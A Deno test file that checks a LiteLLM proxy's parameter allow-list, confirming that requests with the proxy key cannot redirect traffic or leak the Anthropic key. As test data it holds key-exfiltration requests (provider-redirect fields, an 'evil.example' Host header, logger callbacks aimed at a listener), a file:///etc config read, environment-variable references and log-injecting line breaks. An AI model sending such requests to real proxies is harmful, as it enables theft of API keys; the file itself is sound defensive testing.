/**
 * What a request with the proxy key can make LiteLLM do (requirements E1, E2). The tests post every parameter in LiteLLM's
 * source with the proxy key, and watch a listener, a log of CONNECT requests and a log of the DNS. They also send the requests
 * that OpenClaw really sends.
 *
 * @module
 */

import assert from "node:assert/strict";
import { IMAGES } from "../../src/tables/pins.ts";
import { PLACEHOLDER_KEY } from "../../src/generate/litellm/config.ts";
import { until } from "../support/cluster/kubectl.ts";
import { tool } from "../support/tools.ts";
import type { Json } from "../support/support.ts";
import { type Anthropic, anthropic, ANTHROPIC_HOST } from "../support/runtime/anthropic.ts";
import { type Listener, listener } from "../support/runtime/listener.ts";
import { bearer, chat, exposed, INNER_PORT, PORT } from "../support/runtime/litellm_checks.ts";
import { askLitellm } from "../support/runtime/litellm_source.ts";
import { network } from "../support/runtime/network.ts";
import { dataOf, overlay, withText } from "../support/runtime/objects.ts";
import { type Pod, startPod } from "../support/runtime/pod.ts";
import { type Answer, client } from "../support/runtime/raw_request.ts";
import { podRuntime } from "../support/runtime/scratch.ts";

const KEY = "sk-ant-fake-key-of-a-test";
const MODEL = "claude-sonnet-4-5-20250929";
const CHAT = "/v1/chat/completions";

const given = await tool("LiteLLM's parameters", async () => {
  await podRuntime(IMAGES.litellm, IMAGES.keyProxy);
  const trial = await overlay("kind");
  // More requests than a test sends in a minute.
  const prod = await overlay("prod", { models: { requestsPerMinute: 10_000 } });
  const objects = [...prod, ...trial.filter(({ kind }) => kind === "Secret")];
  const keys = dataOf(trial, "Secret", "litellm-credentials");
  return { objects, keys, names: await askLitellm<string[]>(objects, "litellm_parameters.py", "parameters") };
});
const { ignore } = given;
const { objects = [], keys = {}, names = [] } = given.value ?? {};
const proxy = keys["LITELLM_PROXY_KEY"] ?? "";

/** LiteLLM's pod in a network where every name resolves to the listener's host, and every HTTP proxy is the listener. */
interface Lured extends AsyncDisposable {
  readonly pod: Pod;
  readonly stub: Anthropic;
  readonly heard: Listener;
}

async function start(changed: readonly Json[]): Promise<Lured> {
  const stack = new AsyncDisposableStack();
  try {
    const net = stack.use(await network());
    const heard = stack.use(await listener(net.host));
    const stub = stack.use(await anthropic(net, { names: () => net.host }));
    const proxies = { HTTP_PROXY: heard.url, HTTPS_PROXY: heard.url, ALL_PROXY: heard.url, NO_PROXY: "127.0.0.1" };
    const pod = stack.use(
      await startPod({
        objects: exposed(changed),
        deployment: "litellm",
        network: net,
        secrets: { "key-proxy-credentials": { ANTHROPIC_API_KEY: KEY } },
        files: stub.files,
        env: { litellm: proxies },
      }),
    );
    return { pod, stub, heard, [Symbol.asyncDispose]: () => stack.disposeAsync() };
  } catch (error) {
    await stack.disposeAsync();
    throw error;
  }
}

/** Returns every contacted host except Anthropic. */
function strangers({ stub, heard }: Lured): string[] {
  return [...stub.dns.asked.filter((name) => name !== ANTHROPIC_HOST), ...heard.heard];
}

const body = (fields: Record<string, unknown> = {}) => ({
  model: MODEL,
  messages: [{ role: "user", content: "say hi" }],
  ...fields,
});

async function send(
  pod: Pod,
  fields: unknown,
  { query = "", headers = {}, port = PORT, http }: {
    query?: string;
    headers?: Record<string, string>;
    port?: number;
    http?: ReturnType<typeof client>;
  } = {},
): Promise<Answer> {
  await using own = http === undefined ? client(pod.address, port) : undefined;
  const request = { method: "POST", path: `${CHAT}${query}`, headers: { ...bearer(proxy), ...headers } };
  return await (http ?? own ?? client(pod.address, port)).send({ ...request, body: JSON.stringify(fields) });
}

const messageOf = ({ text }: Answer): string => JSON.parse(text).error.message;

/** Loggers that LiteLLM installs if a request names them, and that send data to hosts named in the request. */
const CALLBACKS = ["langsmith", "langfuse", "opik", "s3_v2", "gcs_bucket", "datadog", "braintrust", "posthog", "otel"];

/** Fields of a request that OpenClaw sends; invalid values are refused too. */
const OWN = [
  "max_completion_tokens",
  "max_tokens",
  "messages",
  "model",
  "stream",
  "stream_options",
  "tool_choice",
  "tools",
];

Deno.test({
  name: "no parameter of LiteLLM passes the allow-list",
  ignore,
  fn: async (t) => {
    await using lured = await start(objects);
    const { pod, stub, heard } = lured;
    const url = `${heard.url}/x`;
    assert.equal((await chat(pod, proxy, MODEL)).status, 200, "an ordinary request is accepted");
    const before = stub.requests.length;

    await t.step(`each of the ${names.length} names is refused by name`, async () => {
      // The test is only as good as its list.
      const known = [
        "custom_llm_provider",
        "gigachat_auth_url",
        "extra_headers",
        "api_base",
        "user_config",
        "mock_response",
      ];
      for (const name of [...known, ...OWN]) assert.ok(names.includes(name), name);
      assert.ok(names.length > 5000, String(names.length));
      await using http = client(pod.address, INNER_PORT);
      const wrong: string[] = [];
      const queue = [...names];
      const worker = async () => {
        for (let name = queue.pop(); name !== undefined; name = queue.pop()) {
          const answer = await send(pod, body({ [name]: url }), { http });
          if (answer.status !== 403 || !messageOf(answer).startsWith(`This key may not send ${name}:`)) {
            wrong.push(`${name}: ${answer.status} ${answer.text}`);
          }
        }
      };
      await Promise.all(Array.from({ length: 8 }, worker));
      assert.deepEqual(wrong, []);
    });

    await t.step("they are refused next to a field that LiteLLM itself refuses and logs", async () => {
      await using http = client(pod.address, INNER_PORT);
      for (const [index, name] of CALLBACKS.entries()) {
        const kinds = ["callbacks", "success_callback", "failure_callback"];
        const callbacks = Object.fromEntries(kinds.map((kind) => [kind, [name]]));
        const hosts = { [`${name}_base_url`]: url, [`${name}_host`]: url, langsmith_base_url: url, langfuse_host: url };
        const keys = { langsmith_api_key: "fake", langsmith_tenant_id: "fake", langfuse_secret_key: "fake" };
        const first = index % 2 === 0 ? { api_base: url } : { model_list: [] };
        const answer = await send(pod, body({ ...first, ...callbacks, ...hosts, ...keys }), { http });
        assert.equal(answer.status, 403, answer.text);
        assert.match(messageOf(answer), /^This key may not send (api_base|model_list): no such field$/);
      }
      // A logger sends its data within ten seconds.
      await new Promise((resolve) => setTimeout(resolve, 12_000));
      assert.deepEqual(strangers(lured), []);
    });

    await t.step("they are refused inside another field, in the query, and as a header", async () => {
      const some = names.filter((name) =>
        /^(api_base|base_url|custom_llm_provider|extra_headers|gigachat_auth_url|metadata|mock_response|timeout|tags|user|litellm_.*|.*_url)$/
          .test(name)
      );
      assert.ok(some.length > 50, String(some.length));
      await using http = client(pod.address, INNER_PORT);
      for (const name of some) {
        const nested = [
          body({ messages: [{ role: "user", content: "x", [name]: url }] }),
          body({ messages: [{ role: "user", content: [{ type: "text", text: "x", [name]: url }] }] }),
          body({ stream: true, stream_options: { include_usage: true, [name]: url } }),
          body({ tools: [{ type: "function", function: { name: "f", [name]: url } }] }),
          body({ tools: [{ type: "function", function: { name: "f" }, [name]: url }] }),
        ];
        for (const fields of nested) {
          const answer = await send(pod, fields, { http });
          // Messages and tools have fields such as `name`, for which these values are invalid.
          assert.equal(answer.status, 403, `${name}: ${JSON.stringify(fields)}`);
          assert.ok(messageOf(answer).includes(name), answer.text);
        }
        const query = await send(pod, body(), { http, query: `?${name}=${encodeURIComponent(url)}` });
        assert.deepEqual([query.status, messageOf(query)], [403, `This key may not send the query parameter ${name}`]);
        const header = await send(pod, body(), { http, headers: { [`x-litellm-${name}`]: url } });
        assert.deepEqual([header.status, messageOf(header)], [
          403,
          `This key may not send the header x-litellm-${name}`,
        ]);
      }
    });

    await t.step("values have limits", async () => {
      const image = (value: string) => ({ type: "image_url", image_url: { url: value } });
      const content = (...parts: unknown[]) => body({ messages: [{ role: "user", content: parts }] });
      const cases: readonly (readonly [fields: unknown, field: RegExp])[] = [
        [body({ max_tokens: 1e9 }), /^max_tokens: expected 64000 or less$/],
        [body({ max_completion_tokens: 64_001 }), /^max_completion_tokens: expected 64000 or less$/],
        [body({ max_tokens: 0 }), /^max_tokens: /],
        [body({ max_tokens: true }), /^max_tokens: /],
        [body({ model: `${MODEL},claude-opus-4-6` }), /^model: expected one of /],
        [body({ model: `${MODEL}\nforged` }), /^model: expected one of /],
        [body({ model: "gpt-5" }), /^model: expected one of /],
        [body({ messages: [] }), /^messages: /],
        [
          body({ messages: [{ role: "system", content: "x" }] }),
          /^messages: expected one that is not from system or developer$/,
        ],
        [
          body({ messages: called("not json\nforged") }),
          /^messages\.1\.tool_calls: arguments: expected a JSON object$/,
        ],
        [body({ messages: Array.from({ length: 200_001 }, () => 0) }), /^messages: more than 200000 values$/],
        [content(image(`${heard.url}/a.png`)), /^messages\.0\.user\.content\.parts\.0\.image_url\.image_url\.url: /],
        [content(image("file:///etc/litellm/config.yaml")), /image_url\.url: /],
        [content(image("data:text/html;base64,AAAA")), /image_url\.url: /],
        [content({ type: "file", file: { file_id: "x" } }), /^messages\.0\.user\.content/],
        [content({ type: "input_audio", input_audio: { data: "x", format: "wav" } }), /^messages\.0\.user\.content/],
        [body({ messages: [{ role: "function", name: "f", content: "x" }] }), /^messages\.0: /],
        [body({ tools: [{ type: "web_search_20250305", name: "web_search" }] }), /^tools\.0\./],
        [body({ tools: [{ type: "mcp", server_url: url }] }), /^tools\.0\./],
        [body({ messages: [{ role: "user", content: "os.environ/LITELLM_MASTER_KEY" }] }), /environment variable/],
        [
          body({ tools: [{ type: "function", function: { name: "f", parameters: { a: "os.environ/X" } } }] }),
          /^tools\.0\.function\.parameters\.a: a reference to an environment variable$/,
        ],
        [body({ tools: [{ type: "function", function: { name: "f", parameters: nest(100) } }] }), /nested more than/],
      ];
      await using http = client(pod.address, INNER_PORT);
      for (const [fields, field] of cases) {
        const answer = await send(pod, fields, { http });
        assert.equal(answer.status, 403, `${JSON.stringify(fields).slice(0, 200)}: ${answer.text}`);
        assert.match(messageOf(answer).replace("This key may not send ", ""), field);
      }
      for (const type of ["application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "text/plain"]) {
        const answer = await send(pod, body(), { http, headers: { "content-type": type } });
        assert.ok([400, 403].includes(answer.status), answer.text);
      }
      for (const fields of [[], "text", 1]) assert.equal((await send(pod, fields)).status, 400);
      // A reference in the middle of text is only text; this pack's own files contain some.
      const prose = body({ messages: [{ role: "user", content: "my config says os.environ/LITELLM_MASTER_KEY" }] });
      assert.equal((await send(pod, prose)).status, 200);
    });

    await t.step("none of it reached the model, the listener or the DNS", async () => {
      assert.equal(stub.requests.length, before + 1);
      assert.deepEqual(strangers(lured), []);
      const log = await pod.logs("litellm");
      for (const value of [KEY, ...Object.values(keys)]) assert.ok(!log.includes(value));
      assert.ok(!/^forged/m.test(log), "a name with a line break wrote a separate line");
    });
  },
});

/** Returns a conversation with a tool call. */
function called(args: string) {
  const call = { id: "call1", type: "function", function: { name: "exec", arguments: args } };
  return [{ role: "user", content: "x" }, { role: "assistant", content: null, tool_calls: [call] }];
}

function nest(depth: number): unknown {
  return depth === 0 ? {} : { a: nest(depth - 1) };
}

/** Recorded requests of the real OpenClaw to a stub of LiteLLM, with long texts shortened and two or three tools each. */
interface Captured {
  readonly kind: string;
  readonly headers: Readonly<Record<string, string>>;
  readonly body: Readonly<Record<string, unknown>>;
}

Deno.test("OpenClaw's requests are accepted, in every kind of turn", { ignore }, async () => {
  await using lured = await start(objects);
  const kinds = new Set<string>();
  for (const version of ["2026.9.4", "2026.9.6"]) {
    const file = new URL(`../support/runtime/openclaw_requests/${version}.json`, import.meta.url);
    for (const { kind, headers, body } of JSON.parse(await Deno.readTextFile(file)) as Captured[]) {
      kinds.add(kind);
      const before = lured.stub.requests.length;
      const answer = await send(lured.pod, body, { headers });
      assert.equal(answer.status, 200, `${version}, ${kind}: ${answer.text}`);
      assert.equal(lured.stub.requests.length, before + 1, kind);
      const { stream: _, stream_options: __, ...whole } = body;
      assert.equal((await send(lured.pod, whole, { headers })).status, 200, `${version}, ${kind}, in one piece`);
    }
  }
  assert.equal(kinds.size, 11);
  assert.deepEqual(strangers(lured), []);
});

/** Requests that leak the key, or send it to another provider, if LiteLLM holds it and reads unchecked bodies. */
const ATTACKS = (url: string): readonly Record<string, unknown>[] => [
  { custom_llm_provider: "gigachat", gigachat_auth_url: `${url}/gigachat` },
  { custom_llm_provider: "openai", api_base: `${url}/openai` },
  { custom_llm_provider: "groq" },
  { extra_headers: { Host: "evil.example" } },
];

const withoutAllowList = (from: readonly Json[]) =>
  withText(from, "custom_auth.py", "if refused is not None:", "if False:");
const withKeyInLitellm = (from: readonly Json[]) =>
  withText(
    withText(from, "config.yaml", `api_key: ${PLACEHOLDER_KEY}`, `api_key: ${KEY}`),
    "config.yaml",
    "api_base: http://127.0.0.1:4003",
    "timeout: 30",
  );

/** Sends every attack and returns what other hosts received. */
async function attack(changed: readonly Json[]): Promise<string> {
  await using lured = await start(changed);
  for (const fields of ATTACKS(lured.heard.url)) await send(lured.pod, body(fields)).catch(() => undefined);
  return strangers(lured).join("\n\n");
}

Deno.test("with only the allow-list, or only the key proxy, the key does not leak", { ignore }, async () => {
  assert.equal(await attack(withKeyInLitellm(objects)), "", "only the allow-list");
  const heard = await attack(withoutAllowList(objects));
  assert.ok(!heard.includes(KEY) && !heard.includes(btoa(KEY)), heard);
  // Control: the request was redirected, so a key could have leaked.
  assert.match(heard, /\/gigachat\n/);
});

Deno.test(
  "control: if LiteLLM's own checks run first, a refused request leaks the proxy key",
  { ignore },
  async () => {
    await using lured = await start(withText(objects, "custom_auth.py", "\n\n\ncheck_first()\n", "\n"));
    const fields = {
      api_base: "http://x",
      callbacks: ["langsmith"],
      failure_callback: ["langsmith"],
      langsmith_api_key: "fake",
      langsmith_tenant_id: "fake",
      langsmith_base_url: lured.heard.url,
    };
    assert.equal((await send(lured.pod, body(fields))).status, 403);
    await until("the proxy key at the listener", () => Promise.resolve(strangers(lured).join().includes(proxy)));
  },
);

Deno.test("control: without both, one request leaks the key", { ignore }, async () => {
  const heard = await attack(withoutAllowList(withKeyInLitellm(objects)));
  assert.ok(heard.includes(KEY), heard);
});
